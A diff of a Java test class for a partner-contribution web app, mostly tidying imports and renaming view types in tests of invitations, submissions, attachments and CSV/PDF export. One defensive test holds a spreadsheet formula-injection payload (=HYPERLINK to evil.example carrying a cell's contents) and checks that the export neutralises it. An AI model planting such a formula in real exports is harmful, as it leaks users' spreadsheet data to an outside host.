@@ -9,10 +9,17 @@ import com.icegreen.greenmail.util.ServerSetupTest;
 import fr.ctg.CtgSpringTest;
 import fr.ctg.TestClockConfig;
 import fr.ctg.TestLogin;
+import fr.ctg.base.NotFoundException;
+import fr.ctg.document.DocumentService;
+import fr.ctg.document.TestFiles;
+import fr.ctg.security.AccountService;
+import fr.ctg.security.InvitationService;
 import jakarta.mail.internet.MimeMessage;
+import java.nio.charset.StandardCharsets;
 import java.time.Clock;
 import java.time.Duration;
 import java.util.Arrays;
+import java.util.Locale;
 import java.util.Map;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
@@ -37,7 +44,7 @@ class ContributionServiceTest {
     @Autowired ReviewService review;
     @Autowired ContributionFixture fixture;
     @Autowired TestLogin login;
-    @Autowired fr.ctg.security.AccountService accounts;
+    @Autowired AccountService accounts;
     @Autowired Clock clock;
 
     ContributionFixture.World c;
@@ -66,7 +73,7 @@ class ContributionServiceTest {
     /** Invites an address for an organisation and returns the secret token from the e-mail. */
     String invite(long organisation, String address) throws Exception {
         login.as(c.user("referent"));
-        partners.invite(c.w().conventionId(), organisation, address, java.util.Locale.FRENCH);
+        partners.invite(c.w().conventionId(), organisation, address, Locale.FRENCH);
         login.logout();
         String body = GreenMailUtil.getBody(lastMailTo(address)).replace("=\r\n", "").replace("=3D", "=");
         Matcher m = Pattern.compile("/invitation/([A-Za-z0-9_-]{20,})").matcher(body);
@@ -88,10 +95,10 @@ class ContributionServiceTest {
         assertThatThrownBy(() -> invitations.acceptNew(token, "Marie Dupont", TestLogin.CHOSEN_PASSWORD, TestLogin.CHOSEN_PASSWORD))
                 .hasMessageContaining("invitation.error.used");
         login.as(address);
-        assertThat(calls.calls(c.w().conventionId())).extracting(CallView::id).containsExactly(c.callId());
+        assertThat(calls.calls(c.w().conventionId())).extracting(CallDetails::id).containsExactly(c.callId());
 
         login.as(c.user("referent"));
-        assertThatThrownBy(() -> partners.invite(c.w().conventionId(), c.lien(), address, java.util.Locale.FRENCH))
+        assertThatThrownBy(() -> partners.invite(c.w().conventionId(), c.lien(), address, Locale.FRENCH))
                 .hasMessageContaining("contribution.error.otherOrganisation");
         String late = invite(c.lien(), c.w().prefix() + "-paul@asso.test");
         ((TestClockConfig.MutableClock) clock).advance(Duration.ofDays(15));
@@ -122,7 +129,7 @@ class ContributionServiceTest {
         assertThat(submissions.mine(c.callId()).answers()).as("the draft is kept").containsEntry(1, "1 250");
         submissions.saveDraft(c.callId(), Map.of(0, "Isolement des jeunes parents ; mobilité", 1, "1 250", 2, "Parents",
                 3, "oui"));
-        SubmissionView receipt = submissions.submit(c.callId());
+        SubmissionDetails receipt = submissions.submit(c.callId());
         assertThat(receipt.status()).isEqualTo(SubmissionStatus.SUBMITTED);
         assertThat(receipt.reference()).matches("CTG-2026-\\d{5}-[0-9A-Z]+");
         MimeMessage mail = lastMailTo(address);
@@ -133,8 +140,8 @@ class ContributionServiceTest {
         submissions.withdraw(c.callId());
         submissions.saveDraft(c.callId(), Map.of(0, "Isolement des jeunes parents ; mobilité ; logement", 1, "1 250"));
         String newAddress = c.w().prefix() + "-marie.dupont@asso.test";
-        accounts.updateProfile("Marie Dupont", newAddress, null, java.util.Locale.ENGLISH);
-        SubmissionView again = submissions.submit(c.callId());
+        accounts.updateProfile("Marie Dupont", newAddress, null, Locale.ENGLISH);
+        SubmissionDetails again = submissions.submit(c.callId());
         assertThat(again.status()).isEqualTo(SubmissionStatus.SUBMITTED);
         assertThat(lastMailTo(newAddress).getSubject()).as("the address and language saved in my account")
                 .isEqualTo("Receipt " + again.reference());
@@ -144,7 +151,7 @@ class ContributionServiceTest {
                 .startsWith("Familles rurales"));
         assertThat(review.answersTo(c.callId(), 0).values()).containsExactly("Isolement des jeunes parents ; mobilité ; logement");
         review.review(again.id(), ReviewStatus.TAKEN_INTO_ACCOUNT, "Repris dans le diagnostic partagé.");
-        String csv = new String(review.csv(c.callId()), java.nio.charset.StandardCharsets.UTF_8);
+        String csv = new String(review.csv(c.callId()), StandardCharsets.UTF_8);
         assertThat(csv).startsWith("\uFEFForganisation;reference;depose_le;suite;Quels besoins")
                 .contains("\"Isolement des jeunes parents ; mobilité ; logement\"", "TAKEN_INTO_ACCOUNT");
         try (var doc = Loader.loadPDF(review.pdf(c.callId()))) {
@@ -152,7 +159,7 @@ class ContributionServiceTest {
                     "mobilité", "Repris dans le diagnostic partagé.");
         }
         login.as(address);
-        SubmissionView seen = submissions.mine(c.callId());
+        SubmissionDetails seen = submissions.mine(c.callId());
         assertThat(seen.reviewStatus()).isEqualTo(ReviewStatus.TAKEN_INTO_ACCOUNT);
         assertThat(seen.reviewAnswer()).isEqualTo("Repris dans le diagnostic partagé.");
     }
@@ -177,13 +184,13 @@ class ContributionServiceTest {
         String karim = c.w().prefix() + "-karim@asso.test";
         accept(invite(c.lien(), karim), "Karim");
         login.as(marie);
-        assertThatThrownBy(() -> submissions.attach(c.callId(), 4, fr.ctg.document.TestFiles.file("bilan.pdf",
-                fr.ctg.document.TestFiles.html()))).hasMessageContaining("document.error");
-        assertThatThrownBy(() -> submissions.attach(c.callId(), 0, fr.ctg.document.TestFiles.file("bilan.pdf",
-                fr.ctg.document.TestFiles.pdf("x")))).hasMessageContaining("contribution.error.notAFileQuestion");
+        assertThatThrownBy(() -> submissions.attach(c.callId(), 4, TestFiles.file("bilan.pdf",
+                TestFiles.html()))).hasMessageContaining("document.error");
+        assertThatThrownBy(() -> submissions.attach(c.callId(), 0, TestFiles.file("bilan.pdf",
+                TestFiles.pdf("x")))).hasMessageContaining("contribution.error.notAFileQuestion");
         submissions.saveDraft(c.callId(), Map.of(0, "Besoins", 1, "12"));
-        SubmissionView withFile = submissions.attach(c.callId(), 4, fr.ctg.document.TestFiles.file("Bilan d’activité 2025.pdf",
-                fr.ctg.document.TestFiles.pdf("bilan Familles rurales")));
+        SubmissionDetails withFile = submissions.attach(c.callId(), 4, TestFiles.file("Bilan d’activité 2025.pdf",
+                TestFiles.pdf("bilan Familles rurales")));
         assertThat(withFile.answers().get(4)).isEqualTo("Bilan d’activité 2025.pdf");
         assertThat(withFile.files()).containsOnlyKeys(4);
         submissions.saveDraft(c.callId(), Map.of(0, "Besoins précisés", 1, "12"));
@@ -192,10 +199,10 @@ class ContributionServiceTest {
         assertThat(GreenMailUtil.getBody(lastMailTo(marie))).contains("Bilan d");
         long documentId = submissions.mine(c.callId()).files().get(4);
         login.as(karim);
-        assertThatThrownBy(() -> documentsService.get(documentId)).isInstanceOf(fr.ctg.base.NotFoundException.class);
+        assertThatThrownBy(() -> documentsService.get(documentId)).isInstanceOf(NotFoundException.class);
         login.as(c.user("referent"));
         assertThat(documentsService.get(documentId).summary().current().sizeBytes()).isPositive();
-        assertThat(new String(review.csv(c.callId()), java.nio.charset.StandardCharsets.UTF_8)).contains("Bilan d’activité 2025.pdf");
+        assertThat(new String(review.csv(c.callId()), StandardCharsets.UTF_8)).contains("Bilan d’activité 2025.pdf");
     }
 
     @Test
@@ -211,11 +218,11 @@ class ContributionServiceTest {
         submissions.saveDraft(c.callId(), Map.of(0, "Commencé par Marie, complété par Jean", 1, "30"));
         assertThat(submissions.submit(c.callId()).submittedBy()).startsWith("Jean Martin");
         login.as(c.user("referent"));
-        assertThat(partners.invitations(c.w().conventionId())).extracting(InvitationView::email).contains(marie, jean);
+        assertThat(partners.invitations(c.w().conventionId())).extracting(PartnerInvitationRow::email).contains(marie, jean);
     }
 
-    @Autowired fr.ctg.document.DocumentService documentsService;
-    @Autowired fr.ctg.security.InvitationService invitations;
+    @Autowired DocumentService documentsService;
+    @Autowired InvitationService invitations;
 
     /** Accepts an invitation with a new account, as the invited person does on the link's page. */
     String accept(String token, String name) {
@@ -232,7 +239,7 @@ class ContributionServiceTest {
         submissions.saveDraft(c.callId(), Map.of(0, formula, 1, "12", 3, "oui"));
         submissions.submit(c.callId());
         login.as(c.user("referent"));
-        String csv = new String(review.csv(c.callId()), java.nio.charset.StandardCharsets.UTF_8);
+        String csv = new String(review.csv(c.callId()), StandardCharsets.UTF_8);
         assertThat(csv).contains(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"clic\"\")\";")
                 .doesNotContain(";\"=HYPERLINK");
     }
@@ -247,7 +254,7 @@ class ContributionServiceTest {
         login.as(paul, TestLogin.CHOSEN_PASSWORD);
         long paulSaw = submissions.mine(c.callId()).version(); // Paul opens the page: no draft yet
         login.as(anne, TestLogin.CHOSEN_PASSWORD);
-        SubmissionView anneSaved = submissions.saveDraft(c.callId(), Map.of(0, "Garde d’enfants le soir"),
+        SubmissionDetails anneSaved = submissions.saveDraft(c.callId(), Map.of(0, "Garde d’enfants le soir"),
                 submissions.mine(c.callId()).version());
         login.as(paul, TestLogin.CHOSEN_PASSWORD);
         assertThatThrownBy(() -> submissions.saveDraft(c.callId(), Map.of(0, "Transport"), paulSaw))
